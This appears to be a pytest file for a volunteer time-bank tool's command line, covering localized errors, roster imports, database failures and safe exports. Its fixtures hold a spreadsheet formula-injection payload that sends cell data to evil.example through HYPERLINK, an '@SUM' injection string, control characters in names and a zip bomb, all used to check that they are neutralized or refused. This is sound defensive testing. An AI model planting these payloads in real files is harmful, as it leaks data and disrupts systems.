"""The command line as an operator meets it: in their language (LOVEBANK_LOCALE), one clear line
for a database it cannot use, file names it can act on, and exports that never carry a live
formula."""

from __future__ import annotations

import asyncio
import io
import os
import sqlite3
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import create_engine, text, update

from bot.kernel.db import Database
from bot.kernel.migrate import upgrade
from bot.kernel.settings import Settings, get_settings
from bot.runtime.cli import main
from bot.services import Services
from models import Person
from tests.world import make_world

# aiosqlite's worker thread, whose connection to an unopenable file failed, later reports to an
# event loop already closed: noise that pytest notices in whichever test runs next.
pytestmark = pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture
def bank(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """An SQLite bank file with a community whose people and notes carry formula-like text."""
    monkeypatch.chdir(tmp_path)
    url = f"sqlite+aiosqlite:///{tmp_path / 'bank.db'}"
    monkeypatch.setenv("LOVEBANK_DATABASE_URL", url)
    monkeypatch.delenv("LOVEBANK_LOCALE", raising=False)
    get_settings.cache_clear()

    async def seed() -> str:
        await upgrade(url)
        services = Services(Database(url), Settings(_env_file=None, database_url=url, admins=["console:admin"]))  # type: ignore[call-arg]
        try:
            w = await make_world(services, volunteers=2)
            with services.db.uow() as session:
                session.execute(update(Person).where(Person.id == w.volunteer).values(display_name=EVIL))
                session.commit()
            today = services.clock.community("Asia/Shanghai").today()
            await services.run(
                services.hours.record,
                w.worker,
                w.community_id,
                [w.volunteer],
                category_id=w.categories["助餐"],
                service_date=today - timedelta(days=1),
                minutes=60,
            )
            return f"{today:%Y-%m}"
        finally:
            await services.db.dispose()

    yield asyncio.run(seed())
    get_settings.cache_clear()


def _locale(monkeypatch: pytest.MonkeyPatch, locale: str) -> None:
    monkeypatch.setenv("LOVEBANK_LOCALE", locale)
    get_settings.cache_clear()


def test_reports_hold_text_never_formulas(bank: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "report", "--month", bank, "-o", "r.xlsx", "--community", "幸福社区"]) == 0
    with zipfile.ZipFile(tmp_path / "r.xlsx") as book:
        sheets = "".join(book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets and "HYPERLINK" in sheets  # there, as text
    values = [c.value for row in load_workbook(tmp_path / "r.xlsx")["志愿者"].iter_rows() for c in row]
    assert EVIL in values
    assert main(["export", "report", "--month", bank, "-o", "r.csv", "--community", "幸福社区"]) == 0
    volunteers = (tmp_path / "r-volunteers.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in volunteers and ",=HYPERLINK" not in volunteers
    out = capsys.readouterr().out.splitlines()
    assert out[0] == f"已写入 {tmp_path / 'r.xlsx'}"


def test_import_errors_name_the_columns_as_the_file_does(
    bank: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    roster = tmp_path / "花名册.csv"
    roster.write_text("姓名,出生年份,地址,是否独居,电话\n王秀英,19x8,幸福里3栋,是,021-5555 1234\n", encoding="utf-8")
    assert main(["import", "elders", str(roster), "--community", "幸福社区"]) == 1
    out = capsys.readouterr().out
    assert "第 2 行 出生年份：“19x8”" in out and "birth_year" not in out
    roster.write_text(
        "姓名,出生年份,地址,是否独居,电话\n王\x00秀英\u202e,1948,幸福里3栋,是,021-5555 1234\n", encoding="utf-8"
    )
    assert main(["import", "elders", str(roster), "--community", "幸福社区"]) == 0  # a landline is fine
    with sqlite3.connect(tmp_path / "bank.db") as db:  # a file is input too: no NUL, no U+202E
        assert db.execute("SELECT name, phone FROM elders").fetchall() == [("王秀英", "02155551234")]
    _locale(monkeypatch, "en")
    assert main(["import", "elders", str(tmp_path / "missing.csv")]) == 2
    assert capsys.readouterr().err.startswith(f"lovebank: cannot read {tmp_path / 'missing.csv'}")
    _locale(monkeypatch, "zh-CN")
    assert main(["import", "elders", str(tmp_path / "missing.csv")]) == 2
    assert capsys.readouterr().err.startswith(f"lovebank: 读不了文件 {tmp_path / 'missing.csv'}")


def test_a_huge_roster_is_refused_before_it_is_read(
    bank: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from bot.people.roster import MAX_BYTES, MAX_ROWS

    huge = tmp_path / "huge.csv"
    with huge.open("wb") as f:  # sparse: its size is what counts
        f.truncate(MAX_BYTES + 1)
    assert main(["import", "elders", str(huge), "--community", "幸福社区"]) == 2
    assert "文件太大" in capsys.readouterr().err
    bomb = tmp_path / "bomb.xlsx"  # small on disk, huge unpacked: refused before openpyxl parses it
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", "<row><c><v>1</v></c></row>" * 2_000_000)
    assert bomb.stat().st_size < MAX_BYTES
    assert main(["import", "elders", str(bomb), "--community", "幸福社区"]) == 1
    assert "文件太大" in capsys.readouterr().out
    many = tmp_path / "many.csv"
    many.write_text("name,birth_year,address,lives_alone\n" + "王,1940,某地,是\n" * (MAX_ROWS + 5), encoding="utf-8")
    assert main(["import", "elders", str(many), "--community", "幸福社区"]) == 1
    assert "行数太多" in capsys.readouterr().out


def test_export_stock_speaks_the_operators_language(
    bank: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert main(["export", "stock", "--month", bank]) == 0
    assert capsys.readouterr().out.splitlines()[0].startswith("社区\t物品\t名称\t期初")
    assert main(["export", "stock", "--month", "9999-12"]) == 2
    assert "--month 应为“年-月”" in capsys.readouterr().err
    _locale(monkeypatch, "en")
    assert main(["export", "stock", "--month", bank]) == 0
    assert capsys.readouterr().out.splitlines()[0].startswith("community\titem\tname\topening")


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("postgresql+asyncpg://postgres@127.0.0.1:1/lovebank", "连不上数据库服务器 127.0.0.1:1"),
        ("sqlite+aiosqlite:////nonexistent-folder/bank.db", "打不开 SQLite 数据库文件 /nonexistent-folder/bank.db"),
    ],
)
def test_a_database_it_cannot_use_is_one_line(
    url: str, expected: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("LOVEBANK_DATABASE_URL", url)
    get_settings.cache_clear()
    try:
        assert main(["db", "upgrade"]) == 3
    finally:
        get_settings.cache_clear()
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and expected in err and "Traceback" not in err


@pytest.mark.skipif(not os.environ.get("LOVEBANK_TEST_DATABASE_URL"), reason="needs a PostgreSQL server")
def test_a_missing_postgresql_database_says_how_to_create_it(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from sqlalchemy.engine import make_url

    server = make_url(os.environ["LOVEBANK_TEST_DATABASE_URL"])
    monkeypatch.setenv(
        "LOVEBANK_DATABASE_URL", str(server.set(database="lovebank_never_created").render_as_string(False))
    )
    monkeypatch.setenv("LOVEBANK_LOCALE", "en")
    get_settings.cache_clear()
    try:
        assert main(["export", "stock", "--month", "2026-11"]) == 3
    finally:
        get_settings.cache_clear()
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "does not exist" in err and "createdb" in err and "lovebank_never_created" in err


def test_a_database_locked_past_the_busy_timeout_is_one_line(
    bank: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # The lock is real; only the wait is cut short (the bot waits 30 s before it gives up).
    holder = sqlite3.connect(tmp_path / "bank.db")
    holder.execute("BEGIN EXCLUSIVE")
    try:
        with (
            pytest.raises(Exception) as locked,
            create_engine(f"sqlite:///{tmp_path / 'bank.db'}", connect_args={"timeout": 0}).connect() as conn,
        ):
            conn.execute(text("UPDATE people SET locale = locale"))  # a writer waits for the lock

        async def stuck(settings: Settings) -> Services:
            raise locked.value

        monkeypatch.setattr("bot.runtime.cli.open_services", stuck)
        assert main(["export", "stock", "--month", bank]) == 3
    finally:
        holder.rollback()
        holder.close()
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "被另一个程序占用超过 30 秒" in err


async def test_elders_export_is_dated_in_the_communitys_zone_and_clean(services: Services) -> None:
    from bot.dialogs.core import Input
    from tests.visits_world import Chat, roster_world

    r = await roster_world(services)
    await services.run(services.visits.roster.edit_elder, r.worker, r.elders["张桂兰"], "name", "@SUM(1+1)*cmd")
    services.clock.at = datetime(2026, 11, 20, 20, 0, tzinfo=UTC)  # 04:00 on the 21st in Shanghai
    chat = Chat(services, "worker1")
    turn = await chat.dialogs.handle(chat.caller, Input(text="/elders export"))
    document = turn.replies[0].document
    assert document.filename == "elders-2026-11-21.csv"
    assert "\n'@SUM(1+1)*cmd,1950," in document.content.decode("utf-8-sig").replace("\r\n", "\n")


async def test_a_retired_elder_has_no_next_visit(services: Services) -> None:
    from tests.visits_world import Chat, roster_world

    r = await roster_world(services)
    wang = r.elders["王秀英"]
    chat = Chat(services, "worker1")
    assert "下次探访：20" in await chat.say(f"/elders E{wang}")
    await chat.say(f"/retire E{wang}")
    card = await chat.say(f"/elders E{wang}")
    assert "下次探访：—（已停止探访）" in card and "下次电话" not in card


async def test_console_files_get_unique_names(
    services: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from handlers.console import chat

    await make_world(services)
    monkeypatch.chdir(tmp_path)
    out = io.StringIO()
    await chat(services, "worker1", stdin=io.StringIO("/chart\n/chart\n"), stdout=out)
    assert sorted(p.name for p in tmp_path.glob("chart*.png")) == ["chart-2.png", "chart.png"]
